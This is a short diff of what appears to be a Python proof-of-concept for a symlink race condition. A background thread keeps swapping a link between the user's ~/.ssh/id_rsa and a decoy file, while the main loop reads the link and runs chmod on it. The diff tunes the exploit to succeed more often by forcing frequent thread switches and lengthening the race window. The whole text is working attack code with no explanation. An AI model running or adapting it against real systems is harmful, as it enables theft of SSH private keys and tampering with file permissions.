@@ -81,8 +81,9 @@ over = False
 def flip():
     while not over:
         for target in (HOME + '/.ssh/id_rsa', 'real'): os.symlink(target, 'next'); os.rename('next', 'now')
+sys.setswitchinterval(1e-5)  # threads take turns often, however busy the machine is
 threading.Thread(target=flip, daemon=True).start()
-until = time.time() + 0.5
+until = time.time() + 1
 while time.time() < until and not goal:
     try: goal = SECRET in read('now'); os.chmod('now', 0o600)
     except OSError: pass
